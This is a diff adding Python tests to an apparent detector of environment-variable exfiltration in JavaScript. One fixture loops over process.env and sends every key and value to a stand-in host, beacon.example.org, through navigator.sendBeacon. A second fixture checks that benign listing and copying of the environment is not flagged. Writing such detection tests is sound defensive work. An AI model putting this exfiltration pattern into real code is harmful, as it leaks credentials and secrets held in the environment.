@@ -74,6 +74,29 @@ def test_environment_dump_forwarded_to_a_host(tmp_path: Path) -> None:
     assert chain(found, Kind.EGRESS) == [(2, "reads the whole environment"), (3, "sends it to telemetry.example.org")]
 
 
+def test_environment_read_key_by_key_in_a_loop_and_sent(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "let s = '';\n"
+        "for (const k in process.env) {\n"
+        "  s += k + '=' + process.env[k] + ';';\n"
+        "}\n"
+        "navigator.sendBeacon('https://beacon.example.org/b', s);\n",
+    )
+    assert chain(found, Kind.EGRESS) == [(3, "reads the whole environment"), (5, "sends it to beacon.example.org")]
+
+
+def test_listing_or_copying_the_environment_is_not_a_dump(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "const { spawn } = require('child_process');\n"
+        "const names = Object.keys(process.env).filter((k) => k.startsWith('APP_'));\n"
+        "spawn('node', ['worker.js'], { env: Object.assign({}, process.env, { APP_MODE: 'x' }) });\n"
+        "for (const k in process.env) { if (k.startsWith('APP_')) console.log(k, process.env[k]); }\n",
+    )
+    assert found == []
+
+
 def test_base64_payload_run_by_execsync_names_the_decode_and_the_run(tmp_path: Path) -> None:
     found = analyse(
         tmp_path,
